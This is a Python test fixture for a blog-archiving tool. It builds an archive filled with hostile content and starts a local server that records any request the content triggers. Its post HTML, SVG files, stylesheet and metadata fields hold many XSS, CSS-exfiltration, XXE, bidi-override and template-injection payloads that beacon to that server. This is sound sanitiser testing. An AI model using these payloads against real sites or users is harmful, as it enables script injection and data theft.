"""An archive that is hostile in everything it says, and the server that everything in it wants to reach."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from blogforever.archive.opening import open_archive
from blogforever.protocols import Exchange, Ref
from blogforever.records import (
    AuthorRecord,
    BlogRecord,
    CommentAuthor,
    CommentRecord,
    FieldSource,
    MediaRecord,
    PostRecord,
    SourceRecord,
)

BLOG, HOME = "evil.example", "https://evil.example/"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cf50"
    "0f0003860180e6a2b0c90000000049454e44ae426082"
)
RUN = "document.ran = 1; new Image().src = '{leak}/script'"
BODY = """
<p id=words>Words of the post <img id=kept src="{home}kept.png" alt="kept"></p>
<script>{run}</script><script src="{leak}/script.js"></script>
<img src="{leak}/picture" onerror="{run}" srcset="{leak}/set 2x"><img src=x onerror="{run}">
<svg onload="{run}"><script>{run}</script><image href="{leak}/svg"/><use href="{leak}/use.svg#a"/>
<animate attributeName=href values="javascript:{run}"/>
<foreignObject><iframe src="{leak}/foreign"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{run}"></style></mglyph></table></mtext></math>
<iframe src="{leak}/frame"></iframe><iframe srcdoc="<script>parent.{run}</script>"></iframe>
<object data="{leak}/object"></object><embed src="{leak}/embed"><frameset onload="{run}"></frameset>
<video poster="{leak}/poster" src="{leak}/film" autoplay></video><audio src="{leak}/sound" autoplay></audio>
<form action="{leak}/form" id=form><input name=q autofocus onfocus="{run}"><button>Send</button></form>
<a id=script href="javascript:{run}">one</a> <a href=" jAvA&#9;script:{run}">two</a>
<a ping="{leak}/ping" href="#words">three</a>
<a href="data:text/html,<script>{run}</script>">four</a> <a href="vbscript:{run}">five</a>
<style>@import url({leak}/import); body {{ background: url({leak}/css) }}
input[value^=a] {{ background: url({leak}/leak) }}</style>
<p style="background: url({leak}/style); position: fixed; inset: 0; z-index: 9999">over everything</p>
<link rel=stylesheet href="{leak}/sheet"><link rel=prefetch href="{leak}/prefetch"><link rel=dns-prefetch href="{leak}">
<meta http-equiv=refresh content="0; url={leak}/refresh"><base href="{leak}/base/">
<details open ontoggle="{run}"><summary>x</summary></details><marquee onstart="{run}">x</marquee>
<noscript><p title="</noscript><img src=x onerror='{run}'>"></noscript><template><img src="{leak}/template"></template>
<p>\u202edlrow\u2066 bidi</p><x-y onclick="{run}" tabindex=0>own</x-y><textarea></textarea>
<img src="{leak}/late"></textarea>
"""
FIELD = '"><script>{run}</script><img src=x onerror="{run}">\u202e{{{{ 7 * 7 }}}}'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script><image href="{leak}/in-svg"/></svg>'
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink" width="9" height="9"'
DRAWINGS = (
    f"{_SVG}><rect width='4' height='4' fill='red'/></svg>",
    f"{_SVG}><style>rect {{{{ fill: blue }}}}</style><defs><path id='p'/></defs><use l:href='#p'/><rect/></svg>",
    f"{_SVG}><a l:href='{{leak}}/clicked'><text>onload=</text></a></svg>",
    f"{_SVG}><rect><animate attributeName='x' from='0' to='9'/></rect></svg>",
    f'{_SVG} onload="{{run}}"/>',
    f"{_SVG}><script>{{run}}</script></svg>",
    f"{_SVG}><h:script xmlns:h='http://www.w3.org/1999/xhtml'>{{run}}</h:script></svg>",
    f"{_SVG}><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{{leak}}/f'/></foreignObject></svg>",
    f"{_SVG}><image href='{{leak}}/image'/></svg>",
    f"{_SVG}><use href='{{leak}}/use.svg#a'/></svg>",
    f"{_SVG}><style>@import '{{leak}}/import.css';</style></svg>",
    f"{_SVG}><style>@font-face {{{{ font-family: f; src: url({{leak}}/font) }}}} text {{{{ font: 9px f }}}}</style>"
    "<text>x</text></svg>",
    f"{_SVG}><rect fill='url({{leak}}/paint.svg#p)' width='9' height='9'/></svg>",
    f"{_SVG}><rect width='9' height='9'><set attributeName='onmouseover' to='{{run}}'/></rect></svg>",
    f"<?xml-stylesheet type='text/xsl' href='{{leak}}/style.xsl'?>{_SVG}/>",
    f"<!DOCTYPE svg [<!ENTITY e SYSTEM '{{leak}}/entity'>]>{_SVG}><text>&e;</text></svg>",
    '<html><body onload="{run}"><script>{run}</script></body></html>',
)
"""Drawings, and what only says that it is one; the first four are harmless."""
SHEET = "@import '{leak}/imported'; p {{ color: rgb(1, 2, 3); background: url('{leak}/in-sheet') }}"


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """A server that everything hostile wants to reach, and who came."""
    came: list[str] = []

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            came.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            """Nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listening)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", came
    finally:
        server.shutdown()
        server.server_close()


def filled(text: str, leak: str) -> str:
    return text.format(run=RUN.format(leak=leak), leak=leak, home=HOME)


def write_archive(folder: Path, leak: str) -> None:
    """A blog that is hostile in everything it says; no cleaner of a crawl has seen it."""
    with open_archive(folder, writing=True) as archive:
        archive.hold([BLOG])
        run, _ = archive.store.runs.open(BLOG)
        record = archive.recorder(BLOG, run, {})

        def capture(path: str, body: str | bytes, kind: str) -> Ref:
            content = body.encode() if isinstance(body, str) else body
            headers = (("Content-Type", kind), ("Refresh", f"0; url={leak}/header"), ("Set-Cookie", "evil=1"))
            return record(Exchange(HOME + path, "GET", (), 200, "OK", headers, content, datetime.now(UTC)))

        page = f"<link rel=stylesheet href={HOME}s.css><body onload='x'>{filled(BODY, leak)}<img src={HOME}evil.svg>"
        ref = capture("post", page, "text/html")
        capture("kept.png", PNG, "image/png")
        capture("evil.svg", filled(SVG, leak), "image/svg+xml")
        for number, drawing in enumerate(DRAWINGS):
            capture(f"drawn-{number}.svg", filled(drawing, leak), "image/svg+xml")
        capture("shot.png", filled(SVG, leak), "image/png")
        capture("s.css", filled(SHEET, leak), "text/css")
        field = filled(FIELD, leak)
        said = CommentRecord(id=field, author=CommentAuthor(name=field), text=field, html=filled(BODY, leak))
        source = SourceRecord(
            record_id=ref.record_id,
            role="page",
            url=HOME + "post",
            digest=ref.digest,
            captured=datetime.now(UTC).isoformat(),
        )
        drawn = [f"{HOME}drawn-{number}.svg" for number in range(len(DRAWINGS))]
        pictures = "".join(f'<p><img src="{url}"></p>' for url in drawn)
        for number in range(2):
            post = PostRecord(
                id="evil",
                blog=BLOG,
                url=HOME + "post",
                title=field + "t" * 1_000_000 * number,
                subtitle=field,
                authors=(AuthorRecord(name=field, uri=f"javascript:{field}"),),
                language=field,
                published=field,
                text=f"{field} words {number}",
                html=filled(BODY, leak) + pictures,
                screenshot=HOME + "shot.png",
                media=tuple(MediaRecord(url=url, role="picture") for url in drawn),
                tags=(field,),
                comments=(said,),
                guid=field,
                sources=(source,),
                provenance={"title": FieldSource(by=field, rule=field, confidence=0.5)},
            )
            archive.store.posts.keep(run, post)
        archive.store.blogs.keep(BlogRecord(id=BLOG, url=HOME, title=field))
        archive.store.runs.close(run, "finished")
        archive.store.flush()
        archive.search.update()
